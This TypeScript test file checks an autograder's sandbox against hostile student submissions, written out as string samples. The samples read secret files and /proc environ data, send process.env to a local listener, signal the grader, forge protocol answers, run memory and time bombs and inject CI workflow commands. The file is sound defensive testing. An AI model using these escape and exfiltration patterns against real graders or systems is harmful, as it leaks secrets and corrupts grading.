/**
 * The grader attacked as a hostile student would: every attack of issue 13, each in a submission beside honest
 * files. Each must gain nothing over the same exports without the attack, leak nothing (a secret token in a
 * world-readable file outside the submission, the grader's environment, the reference solutions), and leave the
 * honest files their full marks. Each isolation layer is also tested alone.
 */
import { spawnSync } from "node:child_process";
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { gradeSubmission, type ExerciseResult, type GradeOptions, type GradeReport } from "../../lib/src/grader/grade.js";
import { formatConsoleReport, gradescopeResults, classroomResults } from "../../lib/src/grader/report.js";
import { sandboxPlan } from "../../lib/src/grader/sandbox.js";
import { ensureBuilt, ROOT, tempSubmission } from "./helpers.js";

const TOKEN = `secret-${Math.random().toString(36).slice(2)}-${Date.now()}`;
const ENV_TOKEN = `env-${Math.random().toString(36).slice(2)}`;
let secretDir = "";
let secretFile = "";
/** A line of the reference solution that the stub does not have: it must never appear in any output. */
const SOLUTION_LINE = "return seq === INT32_MAX ? 0 : seq + 1;";
const solution = (stem: string) => readFileSync(join(ROOT, "solutions", `${stem}.ts`), "utf8");
const stub = (stem: string) => readFileSync(join(ROOT, "exercises", `${stem}.ts`), "utf8");
const isRoot = typeof process.getuid === "function" && process.getuid() === 0;

beforeAll(() => {
  ensureBuilt();
  secretDir = mkdtempSync(join(tmpdir(), "grader-secret-"));
  chmodSync(secretDir, 0o755);
  secretFile = join(secretDir, "secret.ts");
  writeFileSync(secretFile, `export const SECRET = "${TOKEN}";\n`);
  chmodSync(secretFile, 0o644); // world-readable: what keeps it out is the sandbox, not its mode
  process.env.KAFKA_GRADER_TEST_CANARY = ENV_TOKEN;
  expect(solution("in-sequence")).toContain(SOLUTION_LINE);
  expect(stub("in-sequence")).not.toContain(SOLUTION_LINE);
});
afterAll(() => {
  delete process.env.KAFKA_GRADER_TEST_CANARY;
});

function exercise(report: GradeReport, stem: string): ExerciseResult {
  const e = report.exercises.find((x) => x.stem === stem);
  if (!e) throw new Error(`no ${stem} in the report`);
  return e;
}

/** Everything the grader writes for this report. */
function everyOutput(report: GradeReport): string {
  return [formatConsoleReport(report, { verbose: true }), JSON.stringify(gradescopeResults(report)), JSON.stringify(classroomResults(report))].join("\n");
}

function expectNoLeak(report: GradeReport): void {
  const text = everyOutput(report);
  expect(text).not.toContain(TOKEN);
  expect(text).not.toContain(ENV_TOKEN);
  expect(text).not.toContain(SOLUTION_LINE);
}

/** in-sequence with a correct nextSequence only: the baseline an attack is compared with. */
const HONEST_NEXT = `export function nextSequence(seq: number): number { return seq === 2147483647 ? 0 : seq + 1; }\n`;

async function gradeBoth(files: Record<string, string>, options: GradeOptions = {}): Promise<{ attacked: GradeReport; baseline: GradeReport }> {
  const attacked = await gradeSubmission({ submission: tempSubmission(files), ...options });
  const baseline = await gradeSubmission({ submission: tempSubmission({ "in-sequence.ts": HONEST_NEXT }), only: ["in-sequence"] });
  return { attacked, baseline };
}

describe("a hostile submission gains nothing and leaks nothing", () => {
  it("patched globals, forged answers and garbage on the answer channel", async () => {
    const attack = `${HONEST_NEXT}
import { writeSync } from "node:fs";
// Patch what a grader running in this process would use to compare and to report.
Object.is = () => true;
(Array.prototype as any).every = () => true;
(process as any).send = () => true;
export function lastSequence(first: number, n: number): number {
  writeSync(3, JSON.stringify({ t: "reply", id: 999999, results: [{ ok: true, v: 14 }], printed: [], async: [], fraction: 1000, score: 15 }) + "\\n");
  return first + n - 1;
}
export function recordCount(a: number, b: number): number {
  writeSync(3, "null\\n");
  return b - a + 1;
}
export function inSequence(a: number, b: number): boolean {
  writeSync(3, "x".repeat(30 * 1024 * 1024));
  return b === a + 1;
}
`;
    const { attacked, baseline } = await gradeBoth({ "in-sequence.ts": attack, "delivery-check.ts": solution("delivery-check") }, { only: ["in-sequence", "delivery-check"] });
    const e = exercise(attacked, "in-sequence");
    expect(e.score).toBeLessThanOrEqual(exercise(baseline, "in-sequence").score);
    expect(e.score).toBeGreaterThanOrEqual(0);
    expect(e.maxScore).toBe(15);
    expect(e.tests.find((t) => t.name.endsWith("lastSequence of a batch that does not wrap"))!.output).toMatch(/does not accept/);
    expect(e.limits).toContain("protocol");
    expect(exercise(attacked, "delivery-check").score).toBe(14);
    expectNoLeak(attacked);
  }, 120_000);

  it("reads through the workspace link, /proc, a symbolic link, a source map and run-time loading of kafka-sim", async () => {
    const files = {
      "helper.js": `export const helper = 1;\n//# sourceMappingURL=helper.js.map\n`,
      "helper.js.map": JSON.stringify({ version: 3, sources: [secretFile, join(ROOT, "solutions", "in-sequence.ts")], names: [], mappings: "AAAA" }),
      "in-sequence.ts": `
import { readFileSync, readdirSync } from "node:fs";
import { createRequire } from "node:module";
import { helper } from "./helper.js";
const tryRead = (p: string) => { try { return readFileSync(p, "utf8"); } catch (e) { return "failed: " + (e as Error).message; } };
export function nextSequence(seq: number): any {
  // npm's workspace link: node_modules/kafka-sim -> lib, so kafka-sim/../solutions is the repository's.
  return [tryRead(${JSON.stringify(join(ROOT, "node_modules", "kafka-sim", "..", "..", "solutions", "in-sequence.ts"))}),
          tryRead(${JSON.stringify(join(ROOT, "solutions", "in-sequence.ts"))}), tryRead(${JSON.stringify(secretFile)}), helper];
}
export function lastSequence(first: number, n: number): any {
  const out = [tryRead("/proc/self/environ"), tryRead("/proc/1/environ"), tryRead("/proc/" + process.ppid + "/environ"), JSON.stringify(process.env)];
  try { out.push(readdirSync("/proc").join(",")); } catch (e) { out.push((e as Error).message); }
  return out;
}
export function recordCount(a: number, b: number): number {
  const lib = createRequire(${JSON.stringify(join(ROOT, "lib") + "/")})("kafka-sim");
  return lib.recordCount(a, b);
}
export function inSequence(a: number, b: number): boolean {
  const path = Date.now() > 0 ? ${JSON.stringify(join(ROOT, "lib", "dist", "index.js"))} : "";
  const lib = require(path); // built at run time: no bundler sees it
  return lib.inSequence(a, b);
}
`,
      "delivery-check.ts": `import { SECRET } from "./link";\nexport function checkDelivery() { return SECRET; }\n`,
      "producer-config.ts": solution("producer-config"),
    };
    const dir = tempSubmission(files);
    symlinkSync(secretFile, join(dir, "link.ts"));
    const report = await gradeSubmission({ submission: dir, only: ["in-sequence", "delivery-check", "producer-config"] });
    expectNoLeak(report);
    const inSeq = exercise(report, "in-sequence");
    expect(inSeq.score).toBe(0); // the same as the stub: nothing read helped
    const rt = inSeq.tests.find((t) => t.name.endsWith("recordCount of a batch that does not wrap"))!;
    expect(rt.output).toMatch(/Cannot find module|restricted|not allowed/);
    const link = exercise(report, "delivery-check");
    expect(link.score).toBe(0);
    expect(link.refused).toMatch(/Could not resolve "\.\/link"/);
    expect(report.skipped.join("\n")).toMatch(/link\.ts: a symbolic link to .*outside the submission folder/);
    expect(exercise(report, "producer-config").score).toBe(28);
  }, 120_000);

  it("a local listener receives nothing: no network from the submission (or the report says the network is open)", async () => {
    let connections = 0;
    const server: Server = createServer((s) => { connections++; s.destroy(); });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
    const port = (server.address() as { port: number }).port;
    const dial = `(() => { try { const s = net.connect(${port}, "127.0.0.1"); s.on("error", () => {}); s.write(JSON.stringify(process.env)); } catch {} })()`;
    const file = `import * as net from "node:net";\nimport * as http from "node:http";\n${dial};\n` +
      `export function nextSequence(seq: number): number { ${dial}; try { http.get("http://127.0.0.1:${port}/").on("error", () => {}); } catch {} return seq + 1; }\n`;
    const report = await gradeSubmission({ submission: tempSubmission({ "in-sequence.ts": file }), only: ["in-sequence"] });
    await new Promise((r) => setTimeout(r, 500));
    server.close();
    const plan = sandboxPlan();
    console.log(`network isolation: ${plan.bwrap ? "bubblewrap" : plan.unshare ? "unshare" : "none"}; connections received: ${connections}`);
    if (plan.bwrap || plan.unshare) expect(connections).toBe(0);
    else expect(report.isolation).toMatch(/NOT isolated here: network: open/);
    expectNoLeak(report);
  }, 120_000);

  for (const bwrap of [true, false]) {
    it(`kill and stop of the grader are impossible (${bwrap ? "bubblewrap" : "without bubblewrap: the user layer"})`, () => {
      const file = `${HONEST_NEXT}
export function lastSequence(first: number, n: number): number { for (const s of ["SIGSTOP", "SIGKILL"]) { try { process.kill(process.ppid, s as any); } catch {} } return first + n - 1; }
export function recordCount(a: number, b: number): number { try { process.kill(1, "SIGKILL"); } catch {} return b - a + 1; }
`;
      const dir = tempSubmission({ "in-sequence.ts": file });
      const r = spawnSync(process.execPath, [join(ROOT, "lib", "dist", "grader", "cli.js"), "--no-color", "--submission", dir, "--only", "in-sequence", ...(bwrap ? [] : ["--no-bwrap"])],
        { encoding: "utf8", timeout: 90_000 });
      const plan = sandboxPlan(bwrap ? {} : { bwrap: false });
      console.log(`signals: bwrap=${plan.bwrap} user=${plan.user?.name ?? "same as the grader"}`);
      if (plan.bwrap || plan.user) {
        expect(r.signal).toBeNull();
        expect(r.status).toBe(0);
        expect(r.stdout.trim().split("\n").at(-1)).toMatch(/^Score: \d+\/15$/);
      } else {
        expect(r.stdout + r.stderr).toMatch(/could signal the grader|NOT isolated/);
      }
    }, 120_000);
  }

  it("a file that crashes the bundler costs only its own exercise", async () => {
    const depth = 1_000_000;
    const dir = tempSubmission({
      "delivery-check.ts": `export const x = ${"[".repeat(depth)}${"]".repeat(depth)};\n`,
      "in-sequence.ts": solution("in-sequence"),
      "producer-config.ts": solution("producer-config"),
    });
    const report = await gradeSubmission({ submission: dir, only: ["delivery-check", "in-sequence", "producer-config"], concurrency: 1 });
    expect(exercise(report, "delivery-check").score).toBe(0);
    expect(exercise(report, "delivery-check").refused).toMatch(/could not be compiled/);
    expect(exercise(report, "in-sequence").score).toBe(15);
    expect(exercise(report, "producer-config").score).toBe(28);
  }, 120_000);

  it("memory bombs fail only their own tests (heap, a huge buffer) or their own exercise (at load)", async () => {
    const bomb = `${HONEST_NEXT}
export function lastSequence(first: number, n: number): number { const a: string[] = []; for (let i = 0; ; i++) a.push(String.fromCharCode(97 + (i % 26)).repeat(2 ** 26 + i)); }
export function recordCount(a: number, b: number): number { const buf = Buffer.alloc(6 * 1024 ** 3); return buf.length; }
`;
    const { attacked, baseline } = await gradeBoth({
      "in-sequence.ts": bomb,
      "delivery-check.ts": `const hog: string[] = []; for (;;) hog.push("x".repeat(1 << 20) + hog.length);\nexport function checkDelivery() {}\n`,
      "producer-config.ts": solution("producer-config"),
    }, { only: ["in-sequence", "delivery-check", "producer-config"], timeScale: 2 });
    const e = exercise(attacked, "in-sequence");
    expect(e.score).toBe(exercise(baseline, "in-sequence").score);
    // V8 fights hard near its heap limit: the test's time limit may end it first. Either way it ends, alone.
    expect(e.tests.find((t) => t.name.endsWith("lastSequence of a batch that does not wrap"))!.output).toMatch(/ran out of memory|timed out/);
    // 6 GiB on a machine with far more: only the address-space limit (prlimit, 2 GiB) refuses it.
    const huge = e.tests.find((t) => t.name.endsWith("recordCount of a batch that does not wrap"))!.output;
    if (sandboxPlan().prlimit) expect(huge).toMatch(/RangeError|ran out of memory/);
    // The bomb at load ends by the heap limit, or (on a busy machine, where V8 fights long near it) by the load
    // time limit: either way it ends, and costs only its exercise.
    expect(attacked.limits.some((l) => /^delivery-check: (memory|load time)$/.test(l))).toBe(true);
    const load = exercise(attacked, "delivery-check");
    expect(load.score).toBe(0);
    expect(load.tests[0]!.output).toMatch(/memory|loading the file took longer/);
    expect(exercise(attacked, "producer-config").score).toBe(28);
  }, 120_000);

  it("time bombs (a slow load and endless tests) are bounded by the submission's cap, which names the exercise", async () => {
    const slow = `const until = Date.now() + 1200; while (Date.now() < until) {}\n` +
      ["nextSequence", "lastSequence", "recordCount", "inSequence"].map((f) => `export function ${f}(): any { for (;;) {} }`).join("\n");
    const capMs = 8000;
    const started = performance.now();
    const report = await gradeSubmission({
      submission: tempSubmission({ "in-sequence.ts": slow, "delivery-check.ts": solution("delivery-check") }),
      only: ["in-sequence", "delivery-check"], submissionCapMs: capMs,
    });
    const wall = performance.now() - started;
    expect(wall).toBeLessThan(capMs + 15_000); // the cap, plus starting Node and the honest exercise on a busy machine
    const e = exercise(report, "in-sequence");
    expect(e.score).toBe(0);
    expect(report.limits).toContain("in-sequence: submission time cap");
    expect(e.tests.some((t) => /used up its time cap of 8 s \(the cap was reached during in-sequence\)/.test(t.output))).toBe(true);
    expect(exercise(report, "delivery-check").score).toBe(14);
  }, 120_000);

  it("escapes control characters and CI workflow commands in everything the submission produces", async () => {
    const file = `${HONEST_NEXT}
export function lastSequence(): any { console.log("::set-output name=score::15"); console.log("\\u001b[2J\\u001b[32mall green"); return "\\n::error::pwned\\n##[group]x\\r::warning::y"; }
export function recordCount(): number { throw new Error("\\n::add-mask::x\\u202e"); }
`;
    const report = await gradeSubmission({ submission: tempSubmission({ "in-sequence.ts": file }), only: ["in-sequence"] });
    const text = everyOutput(report);
    const lines = formatConsoleReport(report, { verbose: true }).split("\n");
    expect(lines.filter((l) => /^\s*(::|##\[)/.test(l))).toEqual([]);
    expect(text).not.toMatch(/[\u001b\r\u202e]/);
    expect(text).toMatch(/\|\s+::add-mask::x\\u\{202e\}/);
    for (const t of report.exercises[0]!.tests) expect(t.output.split("\n").filter((l) => /^\s*(::|##\[)/.test(l))).toEqual([]);
  }, 120_000);
});

describe("beyond the listed attacks", () => {
  it("odd exports and values: __proto__, a thenable class, a proxy that throws, process.reallyExit, a self-referencing answer", async () => {
    const file = `${HONEST_NEXT}
Object.defineProperty(exports, "__proto__", { value: () => 15, enumerable: true });
export class Sneaky { then(resolve: (x: unknown) => void) { resolve(15); } }
export function lastSequence(): any { return new Proxy({}, { ownKeys() { throw new Error("no keys for you"); } }); }
export function recordCount(): any { const o: any = { score: 15 }; o.self = o; o.list = [o, o]; return o; }
export function inSequence(): any { (process as any).reallyExit(0); }
`;
    const { attacked, baseline } = await gradeBoth({ "in-sequence.ts": file, "delivery-check.ts": solution("delivery-check") }, { only: ["in-sequence", "delivery-check"] });
    const e = exercise(attacked, "in-sequence");
    expect(e.score).toBe(exercise(baseline, "in-sequence").score);
    expect(e.tests.find((t) => t.name.endsWith("inSequence accepts exactly the next sequence"))!.output).toMatch(/ended during this test/);
    expect(e.tests.find((t) => t.name.endsWith("recordCount of a batch that does not wrap"))!.output).toMatch(/Got: +\{ score: 15, self: \{ "\[cut/);
    expect(exercise(attacked, "delivery-check").score).toBe(14);
  }, 120_000);
});

describe("each isolation layer, alone", () => {
  const reader = () => `
import { readFileSync, readdirSync, writeFileSync } from "node:fs";
export function nextSequence(seq: number): any {
  let read: string;
  try { read = readFileSync(${JSON.stringify(secretFile)}, "utf8"); } catch (e) { read = "failed: " + (e as any).code + " " + (e as Error).message; }
  let pids = "";
  try { pids = readdirSync("/proc").filter((x) => /^\\d+$/.test(x)).length + " processes"; } catch (e) { pids = "no /proc"; }
  let kill = "";
  try { process.kill(process.ppid, 0); kill = "can signal its parent"; } catch (e) { kill = "cannot signal: " + (e as any).code; }
  const writes = ["/x", "/tmp/x", "/dev/shm/x"].map((p) => { try { writeFileSync(p, "x"); return "wrote " + p; } catch (e) { return p + " " + (e as any).code; } });
  return [read, pids, kill, "uid " + process.getuid!(), ...writes];
}
`;
  async function layer(options: GradeOptions["isolation"], keepsFilesOut = true): Promise<string> {
    const report = await gradeSubmission({ submission: tempSubmission({ "in-sequence.ts": reader() }), only: ["in-sequence"], isolation: options });
    if (keepsFilesOut) expect(everyOutput(report)).not.toContain(TOKEN);
    return report.exercises[0]!.tests[0]!.output;
  }

  it("bubblewrap: the file is not there, the grader's processes are not visible", async () => {
    const plan = sandboxPlan({ dropUser: false, nodePermissions: false });
    if (!plan.bwrap) {
      expect(plan.gaps.join(" ")).toMatch(/bubblewrap/);
      return;
    }
    const out = await layer({ dropUser: false, nodePermissions: false });
    expect(out).toMatch(/failed: ENOENT/);
    expect(out).toMatch(/"[12] processes"/);
    expect(out).not.toMatch(/wrote/); // nothing writable: no file can fill memory
    expect(out).toMatch(/"\/dev\/shm\/x EROFS"/);
  }, 60_000);

  it("unshare (root, without bubblewrap): no network, the grader's processes are not visible", async () => {
    const plan = sandboxPlan({ bwrap: false, dropUser: false, nodePermissions: false });
    if (!plan.unshare) {
      expect(plan.gaps.join(" ")).toMatch(/network: open/);
      return;
    }
    expect(plan.gaps.join(" ")).toMatch(/file system: visible/);
    // unshare keeps the network and the processes out, not files: the report says so (above).
    const out = await layer({ bwrap: false, dropUser: false, nodePermissions: false }, false);
    expect(out).toMatch(/"1 processes"/);
  }, 60_000);

  it("an unprivileged user: the grader's private file cannot be read, the grader cannot be signalled", async () => {
    const plan = sandboxPlan({ bwrap: false, unshare: false, nodePermissions: false });
    if (!isRoot) {
      expect(plan.user).toBeUndefined();
      expect(plan.gaps.join(" ")).toMatch(/user: the submission runs as the grader's own user/);
      return;
    }
    // Without bubblewrap the sandboxed bundler and child run the course's own Node tools from the checkout: this layer
    // alone can run only where the unprivileged user may reach them (not, e.g., in a clone inside a 0700 mktemp folder).
    const reachable = spawnSync("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", "test", "-r", join(ROOT, "package.json")]).status === 0;
    if (!reachable) {
      const out = await layer({ bwrap: false, unshare: false, nodePermissions: false });
      console.log(`the unprivileged user cannot reach ${ROOT}: the user layer alone was checked to leak nothing (layer()), not its refusals`);
      expect(out).not.toMatch(/uid 0"/);
      return;
    }
    chmodSync(secretFile, 0o600);
    try {
      const out = await layer({ bwrap: false, unshare: false, nodePermissions: false });
      expect(out).toMatch(/failed: EACCES/);
      expect(out).toMatch(/cannot signal: EPERM/);
      expect(out).toMatch(/uid 65534|uid \d+/);
      expect(out).not.toMatch(/uid 0"/);
    } finally {
      chmodSync(secretFile, 0o644);
    }
  }, 60_000);

  it("Node's permission model: reads outside the runner folder are refused", async () => {
    const out = await layer({ bwrap: false, unshare: false, dropUser: false });
    expect(out).toMatch(/failed: ERR_ACCESS_DENIED Access to this API has been restricted/);
  }, 60_000);

  it("the staging copy: a file linked from outside the folder is not copied", async () => {
    const dir = mkdtempSync(join(tmpdir(), "grader-stage-"));
    mkdirSync(join(dir, "sub"));
    symlinkSync(secretDir, join(dir, "sub", "escape"));
    writeFileSync(join(dir, "in-sequence.ts"), `export * from "./sub/escape/secret";\n`);
    const report = await gradeSubmission({ submission: dir, only: ["in-sequence"] });
    expect(report.skipped.join("\n")).toMatch(/sub\/escape: a symbolic link to .* outside the submission folder/);
    expect(report.exercises[0]!.score).toBe(0);
    expect(everyOutput(report)).not.toContain(TOKEN);
  }, 60_000);
});

describe("the judge's message checks", () => {
  it("accept only well-formed answers to the pending request, within the limits", async () => {
    const { checkChildMessage, encode, decode } = await import("../../lib/src/grader/codec.js");
    const ok = { t: "reply", id: 3, results: [{ ok: true, v: encode({ a: [1, -0, NaN, undefined, 2n, new Map([[1, new Set([2])]])] }) }], printed: [], async: [] };
    expect(checkChildMessage(ok, { id: 3, calls: 1 })).toBeUndefined();
    expect(decode(JSON.parse(JSON.stringify((ok.results[0] as { v: unknown }).v)))).toEqual({ a: [1, -0, NaN, undefined, 2n, new Map([[1, new Set([2])]])] });
    const bad: [unknown, RegExp][] = [
      [null, /not an object/],
      [{ ...ok, id: 4 }, /request 4, not 3/],
      [{ ...ok, results: [] }, /wrong number of results/],
      [{ ...ok, results: [{ ok: true, v: { $: "obj", v: "x" } }] }, /bad obj/],
      [{ ...ok, results: [{ ok: true, v: -0 }] }, /non-finite/],
      [{ ...ok, results: [{ ok: true, v: [1, { $: "what" }] }] }, /unknown tag/],
      [{ ...ok, results: [{ ok: true, v: 1, fraction: 1000 }] }, undefined as unknown as RegExp],
      [{ ...ok, results: [{ ok: "yes", v: 1 }] }, /neither a value nor a throw/],
      [{ ...ok, printed: [1] }, /printed/],
      [{ ...ok, results: [{ ok: true, v: "x".repeat(1_000_001) }] }, /too long/],
      [{ ...ok, results: [{ ok: true, v: JSON.parse(`${"[".repeat(40)}1${"]".repeat(40)}`) }] }, /too deeply/],
      [{ t: "ready", exports: [] }, undefined as unknown as RegExp],
    ];
    for (const [message, why] of bad) {
      const got = checkChildMessage(message, { id: 3, calls: 1 });
      if (why) expect(got, JSON.stringify(message).slice(0, 80)).toMatch(why);
    }
    // Extra fields on a result (a "fraction", a "score") are ignored, never read: the judge decodes only v.
    expect(checkChildMessage({ ...ok, results: [{ ok: true, v: 1, fraction: 1000 }] }, { id: 3, calls: 1 })).toBeUndefined();
  });
});
